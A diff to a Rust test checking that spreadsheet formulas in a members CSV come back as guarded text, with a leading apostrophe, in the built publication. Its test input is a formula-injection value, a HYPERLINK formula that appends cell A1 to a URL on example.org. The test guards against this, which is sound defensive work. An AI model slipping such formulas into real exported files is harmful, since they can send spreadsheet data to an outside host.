@@ -71,17 +71,19 @@ fn the_calendar_has_the_dated_session_at_its_instant_and_a_note_for_the_other() 
 fn formulas_in_cells_are_text_and_come_back_as_they_were() {
     let folder = copy_of("sample");
     let formula = "=HYPERLINK(\"https://example.org/?\"&A1,\"Graz\")";
+    // In a sheet it would be a formula, so it is written with an apostrophe there too.
     edit(
         folder.path(),
         "members.csv",
         ",Barcelona,Barcelona,",
-        &format!(",\"{}\",Barcelona,", formula.replace('"', "\"\"")),
+        &format!(",\"'{}\",Barcelona,", formula.replace('"', "\"\"")),
     );
     let publication = built(folder.path(), None);
     let mut reader = csv::Reader::from_reader(file(&publication, "members.csv"));
     let heads = reader.headers().unwrap().clone();
     let name = heads.iter().position(|head| head == "name").unwrap();
     let records: Vec<_> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(json(&publication.files[0].bytes)["members"][0]["name"], formula);
     assert_eq!(records[0][name], format!("'{formula}"));
     assert_eq!(unguarded(&records[0][name]), formula);
     for record in &records {
